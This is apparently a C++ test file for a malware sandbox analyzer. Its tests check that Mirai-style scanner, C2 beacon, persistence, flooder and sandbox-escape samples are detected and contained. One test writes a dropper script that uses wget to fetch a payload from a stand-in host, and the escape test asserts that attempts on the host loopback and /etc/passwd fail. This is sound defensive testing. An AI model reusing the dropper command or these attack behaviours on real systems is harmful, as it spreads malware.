// analyzeSample end to end on the team's test programs (tests/samples, built by kansoku_test_samples into
// KANSOKU_TEST_SAMPLES_DIR). Needs root and user namespaces; skips with the reason otherwise.
//
// Safety net: each test process first moves itself into a fresh network namespace of its own
// (unshare(CLONE_NEWNET) before any thread exists; only `lo`, brought up here, and no route anywhere),
// so even a sandbox bug could not put a packet on the host's network. The "host loopback" the escape test
// listens on is this namespace's 127.0.0.1, i.e. the loopback of the process that runs the sandbox.

#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "sandbox/analysis/sandbox_analyzer.h"
#include "support/sandbox_support.h"
#include "support/temp_dir.h"

namespace kansoku::sandbox {
namespace {

namespace fs = std::filesystem;
using namespace std::chrono_literals;
using kansoku::testing::TempDir;

std::string readText(const fs::path& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
}

std::string unsupportedReason() {
    return kansoku::testing::sandboxSkipReason();
}

fs::path samplePath(const std::string& arch, const std::string& name) {
    return fs::path(KANSOKU_TEST_SAMPLES_DIR) / arch / name;
}

#define SKIP_UNLESS_SUPPORTED(arch, name)                                                                              \
    do {                                                                                                               \
        if (const std::string why = unsupportedReason(); !why.empty()) {                                               \
            GTEST_SKIP() << why;                                                                                       \
        }                                                                                                              \
        if (!fs::exists(samplePath(arch, name))) {                                                                     \
            GTEST_SKIP() << samplePath(arch, name) << " not built (target kansoku_test_samples)";                      \
        }                                                                                                              \
    } while (false)

uint32_t uniqueOutsideUid() {
    return 300000 + static_cast<uint32_t>(getpid() % 100000);
}

AnalysisOptions shortRun(TempDir& dir, std::chrono::milliseconds timeout = 15s) {
    // The jail's root is an unprivileged uid outside: it must be able to traverse the work directory.
    fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::group_exec | fs::perms::others_exec);
    AnalysisOptions options;
    options.timeout = timeout;
    options.outside_uid = uniqueOutsideUid();
    options.outside_gid = uniqueOutsideUid();
    options.work_parent = dir.path().string();
    options.env = {"KANSOKU_SAMPLE_SECONDS=2", "KANSOKU_SAMPLE_SEED=7", "KANSOKU_SAMPLE_SLEEP=1"};
    options.stdout_path = (dir.path() / "stdout").string();
    options.stderr_path = (dir.path() / "stderr").string();
    return options;
}

const SignatureHit* findHit(const BehaviourReport& report, std::string_view id) {
    for (const SignatureHit& hit : report.signatures) {
        if (hit.id == id) {
            return &hit;
        }
    }
    return nullptr;
}

std::string ids(const BehaviourReport& report) {
    std::string out;
    for (const SignatureHit& hit : report.signatures) {
        out += hit.id + " ";
    }
    return out + "| " + report.toJson().dump().substr(0, 1500);
}

BehaviourReport analyze(const std::string& arch, const std::string& name, const AnalysisOptions& options) {
    auto report = analyzeSample(samplePath(arch, name).string(), options);
    EXPECT_TRUE(report.has_value()) << (report ? "" : report.error().message);
    if (!report) {
        BehaviourReport empty;
        return empty;
    }
    EXPECT_NO_THROW((void)report->toJson().dump());
    EXPECT_EQ(report->sha256.size(), 64u);
    return std::move(*report);
}

TEST(SandboxAnalyze, SynScannerIsAMiraiScan) {
    SKIP_UNLESS_SUPPORTED("x86_64", "syn_scanner");
    TempDir dir;
    const BehaviourReport report = analyze("x86_64", "syn_scanner", shortRun(dir));
    EXPECT_EQ(report.arch, "x86-64");
    EXPECT_FALSE(report.emulated);
    EXPECT_EQ(report.behaviour.source, "ptrace");
    const SignatureHit* scan = findHit(report, "network_scan");
    ASSERT_NE(scan, nullptr) << ids(report);
    ASSERT_TRUE(report.scan.has_value());
    EXPECT_EQ(report.scan->tool, "mirai");
    EXPECT_EQ(report.scan->dst_ports.at(0).first, 23);
    ASSERT_GE(report.scan->dst_ports.size(), 2u) << ids(report);
    EXPECT_EQ(report.scan->dst_ports.at(1).first, 2323);
    EXPECT_GT(report.scan->rate_pps, 10);
    EXPECT_EQ(scan->evidence["raw_socket"], true);
    EXPECT_NE(report.verdict, "clean");
}

TEST(SandboxAnalyze, C2BeaconDnsAndHello) {
    SKIP_UNLESS_SUPPORTED("x86_64", "c2_beacon");
    TempDir dir;
    const BehaviourReport report = analyze("x86_64", "c2_beacon", shortRun(dir));
    ASSERT_FALSE(report.network.dns.empty()) << ids(report);
    EXPECT_EQ(report.network.dns[0].resolver.toString(), "192.0.2.53");
    EXPECT_EQ(report.network.dns[0].qname, "cnc.example.test");
    ASSERT_NE(findHit(report, "dns_hardcoded_resolver"), nullptr) << ids(report);
    const SignatureHit* c2 = findHit(report, "c2_contact");
    ASSERT_NE(c2, nullptr) << ids(report);
    EXPECT_EQ(c2->evidence["connections"][0]["dst_port"], 23);
    EXPECT_EQ(c2->evidence["connections"][0]["first_bytes_hex"].get<std::string>().substr(0, 8), "00000001");
    EXPECT_NE(std::find(c2->mitre.begin(), c2->mitre.end(), "T1571"), c2->mitre.end());
}

TEST(SandboxAnalyze, DaemonRenamerStartUp) {
    SKIP_UNLESS_SUPPORTED("x86_64", "daemon_renamer");
    TempDir dir;
    AnalysisOptions options = shortRun(dir);
    options.filename = "dvrHelper";
    const BehaviourReport report = analyze("x86_64", "daemon_renamer", options);
    EXPECT_NE(findHit(report, "self_deletion"), nullptr) << ids(report);
    EXPECT_NE(findHit(report, "process_masquerading"), nullptr) << ids(report);
    EXPECT_NE(findHit(report, "single_instance_bind"), nullptr) << ids(report);
    const SignatureHit* persistence = findHit(report, "persistence");
    ASSERT_NE(persistence, nullptr) << ids(report);
    EXPECT_NE(std::find(persistence->mitre.begin(), persistence->mitre.end(), "T1053.003"), persistence->mitre.end());
    EXPECT_NE(std::find(persistence->mitre.begin(), persistence->mitre.end(), "T1037.004"), persistence->mitre.end());
    EXPECT_NE(findHit(report, "watchdog_access"), nullptr) << ids(report);
    EXPECT_EQ(report.verdict, "malicious");
    bool second_stage = false;
    for (const DroppedFile& f : report.dropped) {
        EXPECT_FALSE(f.is_sample) << "the sample deleted itself: " << f.path;
        second_stage = second_stage || (f.path == "/tmp/.kansoku_stage2.sh" && f.sha256.size() == 64 &&
                                        f.file_type.find("script") != std::string::npos);
    }
    EXPECT_TRUE(second_stage) << "the dropped second-stage script is reported with its digests";
}

TEST(SandboxAnalyze, ADroppersScriptRunsUnderTheJailsShell) {
    SKIP_UNLESS_SUPPORTED("x86_64", "idle");
    TempDir dir;
    const fs::path script = dir.path() / "bins.sh";
    std::ofstream(script) << "#!/bin/sh\ncd /tmp\nwget http://192.0.2.7/bins/x.arm -O .x\necho done > /tmp/.ran\n";
    AnalysisOptions options = shortRun(dir, 4s);
    options.filename = "bins.sh";
    auto report = analyzeSample(script.string(), options);
    ASSERT_TRUE(report.has_value()) << report.error().message;
    // The shell's wget reached the fake network; BusyBox naming its applet is not masquerading.
    bool fetched = false;
    for (const auto& c : report->network.connections) {
        fetched = fetched || (c.dst.toString() == "192.0.2.7" && c.dst_port == 80);
    }
    EXPECT_TRUE(fetched) << report->toJson().dump();
    EXPECT_EQ(findHit(*report, "process_masquerading"), nullptr) << ids(*report);
    EXPECT_FALSE(report->emulated);
}

TEST(SandboxAnalyze, KillerKills) {
    SKIP_UNLESS_SUPPORTED("x86_64", "killer");
    TempDir dir;
    const BehaviourReport report = analyze("x86_64", "killer", shortRun(dir));
    const SignatureHit* hit = findHit(report, "process_killing");
    ASSERT_NE(hit, nullptr) << ids(report);
    EXPECT_GE(hit->evidence["kills"].get<int>(), 1);
}

TEST(SandboxAnalyze, UdpFlooderFloods) {
    SKIP_UNLESS_SUPPORTED("x86_64", "udp_flooder");
    TempDir dir;
    const BehaviourReport report = analyze("x86_64", "udp_flooder", shortRun(dir));
    const SignatureHit* hit = findHit(report, "network_flood");
    ASSERT_NE(hit, nullptr) << ids(report);
    EXPECT_EQ(hit->evidence["proto"], "udp");
    EXPECT_EQ(report.network.udp.distinctDestinations(), 1u);
}

TEST(SandboxAnalyze, EscapeAttemptsFailAndAreReported) {
    SKIP_UNLESS_SUPPORTED("x86_64", "escape");
    TempDir dir;
    // A listener on this process's loopback; the sample is told its port and must not reach it.
    const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
    ASSERT_GE(listener, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0) << std::strerror(errno);
    ASSERT_EQ(::listen(listener, 8), 0);
    socklen_t len = sizeof(addr);
    ASSERT_EQ(::getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len), 0);
    const int port = ntohs(addr.sin_port);

    struct stat passwd_before {};
    ASSERT_EQ(::stat("/etc/passwd", &passwd_before), 0);
    ASSERT_FALSE(fs::exists("/etc/passwd-kansoku")) << "left over from an earlier run: remove it";

    AnalysisOptions options = shortRun(dir, 20s);
    options.args = {"2", std::to_string(port)};
    const BehaviourReport report = analyze("x86_64", "escape", options);

    EXPECT_LT(::accept(listener, nullptr, nullptr), 0) << "the jailed sample reached the host loopback";
    ::close(listener);
    EXPECT_FALSE(fs::exists("/etc/passwd-kansoku"));
    struct stat passwd_after {};
    ASSERT_EQ(::stat("/etc/passwd", &passwd_after), 0);
    EXPECT_EQ(passwd_before.st_mtim.tv_sec, passwd_after.st_mtim.tv_sec);
    EXPECT_EQ(passwd_before.st_mtim.tv_nsec, passwd_after.st_mtim.tv_nsec);

    const SignatureHit* hit = findHit(report, "escape_attempt");
    ASSERT_NE(hit, nullptr) << ids(report);
    EXPECT_EQ(hit->evidence.dump().find("succeeded"), std::string::npos) << ids(report);
    bool loopback = false;
    for (const auto& item : hit->evidence["items"]) {
        loopback = loopback || (item["kind"] == "loopback_connect" && item["port"] == port);
    }
    EXPECT_TRUE(loopback) << ids(report);
    // Denied syscalls one by one with their arguments (issue 16 item 3): the chroot break's chroot.
    bool chroot_listed = false;
    for (const DeniedSyscall& d : report.behaviour.denied) {
        chroot_listed =
            chroot_listed ||
            (d.name == "chroot" && d.args == std::vector<std::string>{"/tmp/.kansoku-break"} && d.result == -EPERM);
    }
    EXPECT_TRUE(chroot_listed) << report.behaviour.toJson()["denied_syscalls"].dump();
    const std::string out = readText(dir.path() / "stdout");
    EXPECT_EQ(out.find("SUCCEEDED"), std::string::npos) << out;
}

TEST(SandboxAnalyze, IdleAndCrasherStillReport) {
    SKIP_UNLESS_SUPPORTED("x86_64", "crasher");
    TempDir dir;
    const BehaviourReport idle = analyze("x86_64", "idle", shortRun(dir));
    EXPECT_EQ(idle.verdict, "clean") << ids(idle);
    EXPECT_TRUE(idle.jail.sample_exited);
    EXPECT_EQ(idle.jail.exit_code, 0);
    EXPECT_FALSE(idle.timed_out);
    bool copy_listed = false;
    for (const DroppedFile& f : idle.dropped) {
        copy_listed = copy_listed || (f.is_sample && f.sha256 == idle.sha256);
    }
    EXPECT_TRUE(copy_listed);

    const BehaviourReport crasher = analyze("x86_64", "crasher", shortRun(dir));
    EXPECT_EQ(crasher.jail.term_signal, SIGSEGV) << ids(crasher);
    EXPECT_FALSE(crasher.timed_out);
}

TEST(SandboxAnalyze, ArmC2BeaconUnderQemu) {
    SKIP_UNLESS_SUPPORTED("arm", "c2_beacon");
    if (access("/usr/bin/qemu-arm-static", X_OK) != 0) {
        GTEST_SKIP() << "qemu-arm-static missing (Debian qemu-user-static)";
    }
    TempDir dir;
    const BehaviourReport report = analyze("arm", "c2_beacon", shortRun(dir, 20s));
    EXPECT_EQ(report.arch, "ARM");
    EXPECT_TRUE(report.emulated);
    EXPECT_EQ(report.behaviour.source, "ptrace") << ids(report);
    // The guest's exec, not qemu's: path and argv as the x86-64 build would show them.
    ASSERT_FALSE(report.behaviour.processes.empty()) << ids(report);
    ASSERT_FALSE(report.behaviour.processes[0].execs.empty()) << ids(report);
    EXPECT_EQ(report.behaviour.processes[0].execs[0].path, "/tmp/sample") << ids(report);
    for (const ProcessRecord& p : report.behaviour.processes) {
        EXPECT_NE(p.origin, "thread") << "qemu's call_rcu thread is not the guest's: " << ids(report);
    }
    bool connect_seen = false;
    for (const NetworkActivity& n : report.behaviour.network) {
        connect_seen = connect_seen || (n.op == "connect" && n.port == 23 && !n.address.empty());
    }
    EXPECT_TRUE(connect_seen) << "the guest's connect with its address: " << ids(report);
    ASSERT_FALSE(report.network.dns.empty()) << ids(report);
    EXPECT_EQ(report.network.dns[0].resolver.toString(), "192.0.2.53");
    EXPECT_NE(findHit(report, "c2_contact"), nullptr) << ids(report);
    for (const DroppedFile& f : report.dropped) {
        EXPECT_NE(f.path, "/tmp/.kansoku-qemu.strace") << "the emulator's log is not a dropped file";
    }
}

} // namespace
} // namespace kansoku::sandbox
